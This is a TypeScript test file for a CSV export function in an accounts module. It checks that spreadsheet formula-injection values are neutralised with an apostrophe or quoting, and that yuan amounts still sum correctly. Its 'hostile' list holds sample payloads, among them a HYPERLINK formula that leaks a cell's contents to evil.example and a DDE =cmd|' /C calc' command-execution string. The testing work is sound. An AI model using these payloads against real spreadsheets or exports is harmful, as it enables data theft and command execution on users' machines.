import { expect } from 'chai';
import { toCsv, YuanCell } from '../../src/accounts/csv';
import { column, readAsSpreadsheet, sum } from '../support/spreadsheet-csv';

describe('CSV exports in a spreadsheet', () => {
  const hostile = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Refund")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-2-3',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
  ];

  it('writes text that would run as a formula behind an apostrophe, so a spreadsheet reads it as text', () => {
    const sheet = readAsSpreadsheet(toCsv(['reference'], hostile.map((text) => [text])));
    expect(column(sheet, 'reference')).to.deep.equal(hostile.map((text) => ({ kind: 'text', text: `'${text}` })));
  });

  it('quotes text holding a separator of another locale, so no part of it starts a cell of its own', () => {
    const csv = toCsv(['reference'], [["INV-1;=cmd|' /C calc'!A0"], ['a\t=1+1'], ['a,b']]);
    expect(csv.split('\r\n').slice(1, 4)).to.deep.equal([`"INV-1;=cmd|' /C calc'!A0"`, '"a\t=1+1"', '"a,b"']);
  });

  it('leaves text that runs nothing as it was, the apostrophe and the characters only inside included', () => {
    const harmless = ["'quoted", 'a=b', 'POST /v1/chat/completions', 'input_tokens=9 output_tokens=40', '对公转账 -1', ''];
    expect(toCsv(['note'], harmless.map((text) => [text]))).to.equal(`\uFEFFnote\r\n${harmless.join('\r\n')}\r\n`);
  });

  it('writes integers and yuan as numbers, negative ones included, which a spreadsheet sums to the totals', () => {
    const amounts = [1_000_000_000, -169, -1500, 400_000, 0, -1];
    const csv = toCsv(['amount_minor', 'amount_yuan', 'note'], amounts.map((minor, i) => [minor, new YuanCell(minor), hostile[i % hostile.length]!]));
    expect(csv.split('\r\n')[3]).to.equal("-1500,-0.001500,'+1+1");
    const sheet = readAsSpreadsheet(csv);
    expect(sheet.flat().some((cell) => cell.kind === 'formula'), 'no cell runs').to.equal(false);
    const total = amounts.reduce((a, b) => a + b, 0);
    expect(sum(column(sheet, 'amount_minor'))).to.equal(total);
    expect(column(sheet, 'amount_yuan').every((cell) => cell.kind === 'number')).to.equal(true);
    expect(sum(column(sheet, 'amount_yuan'))).to.be.closeTo(total / 1_000_000, 1e-6);
  });
});
